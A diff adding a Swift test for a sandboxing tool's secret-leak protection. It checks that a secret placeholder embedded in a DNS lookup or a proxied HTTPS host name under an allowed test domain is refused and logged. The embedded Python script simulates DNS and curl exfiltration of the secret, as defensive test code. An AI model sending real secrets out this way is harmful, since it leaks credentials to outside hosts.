@@ -193,6 +193,45 @@ struct SecretsCommandTests {
         #expect(second.status == 0 && second.stdout.hasPrefix("cordon-ph-") && !second.stdout.contains(placeholder), "\(second)")
     }
 
+    /// The agent puts its placeholder in a host name (a DNS query, a CONNECT target) under a
+    /// domain the profile allows: refused with rule `placeholder`, logged; the same name
+    /// without it goes on to the usual decision.
+    @Test(.enabled(if: SandboxHarness.namespacesAvailable, "user namespaces unavailable on this host"))
+    func aPlaceholderInAHostNameIsRefusedAndLogged() async throws {
+        let h = try SandboxHarness()
+        defer { h.cleanup() }
+        #expect(try await h.cordon(["secrets", "set", "OPENAI", "--stdin"], stdin: Self.value).status == 0)
+        try h.write(
+            "cordon/profiles/leak.yaml",
+            "name: leak\negress:\n  domains: [\"*.example.test\"]\nsecrets:\n  - {name: OPENAI, env: K, domains: [api.openai.com]}\n",
+            in: h.root + "/config")
+        let script = """
+            import os, socket, subprocess
+            for name in (os.environ["K"] + ".example.test", "plain.example.test"):
+                try:
+                    socket.getaddrinfo(name, 443)
+                    print("resolved", name)
+                except OSError as error:
+                    print("dns-failed", name)
+            r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-x", os.environ["HTTPS_PROXY"],
+                                "https://" + os.environ["K"].upper() + ".example.test/"], capture_output=True, text=True)
+            print("connect", r.stdout, r.stderr.strip())
+            """
+        let r = try await h.cordon(["run", "--name", "leak", "--profile", "leak", "--workspace", h.workspace, "--", "/usr/bin/python3", "-c", script])
+        let placeholder = try String(contentsOfFile: h.state + "/cordon/sandboxes/leak/placeholders.json", encoding: .utf8)
+        #expect(placeholder.contains("cordon-ph-"))
+        #expect(r.stdout.contains("dns-failed cordon-ph-"), "\(r)")
+        #expect(r.stderr.contains("cordon: ALERT: leak was refused"), "\(r.stderr)")
+        #expect(r.stdout.contains("connect 403") || r.stdout.contains("403"), "\(r)")
+        let log = try String(contentsOfFile: h.state + "/cordon/sandboxes/leak/network.jsonl", encoding: .utf8)
+        let entries = try log.split(separator: "\n").map { try json(String($0)) }
+        let refused = entries.filter { $0["rule"] as? String == "placeholder" }
+        #expect(refused.count >= 2, "\(log)")
+        #expect(refused.allSatisfy { ($0["host"] as? String ?? "").lowercased().contains("cordon-ph-") }, "\(log)")
+        // The name without the placeholder was decided by the profile's lists, not this rule.
+        #expect(entries.contains { ($0["host"] as? String) == "plain.example.test" && $0["rule"] as? String != "placeholder" }, "\(log)")
+    }
+
     @Test(.enabled(if: SandboxHarness.namespacesAvailable, "user namespaces unavailable on this host"))
     func aMissingSecretOrABrokenKeystoreStopsTheSandbox() async throws {
         let h = try SandboxHarness()
